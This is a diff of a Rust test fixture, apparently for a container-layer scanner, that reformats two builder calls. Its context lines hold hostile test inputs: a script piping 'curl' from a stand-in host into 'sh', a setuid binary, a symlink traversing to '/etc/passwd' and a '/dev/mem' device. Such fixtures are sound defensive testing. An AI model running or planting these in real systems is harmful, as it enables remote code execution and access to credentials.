@@ -19,8 +19,18 @@ fn rich_index() -> LayerIndex {
             b"#!/bin/sh\ncurl -fsSL http://x.invalid/a | sh\n",
             0o755,
         )
-        .file("var/lib/dpkg/status", b"Package: a\nStatus: install ok installed\n", 0o644)
-        .file_bytes(b"usr/bin/odd\xff", b"\x7fELF\x02\x01\x01", 0o4755, 1000, 2000)
+        .file(
+            "var/lib/dpkg/status",
+            b"Package: a\nStatus: install ok installed\n",
+            0o644,
+        )
+        .file_bytes(
+            b"usr/bin/odd\xff",
+            b"\x7fELF\x02\x01\x01",
+            0o4755,
+            1000,
+            2000,
+        )
         .hardlink("usr/bin/fetch2", "usr/bin/fetch")
         .symlink("usr/bin/up", "../../../etc/passwd")
         .device("dev/mem", 'c', 1, 1)
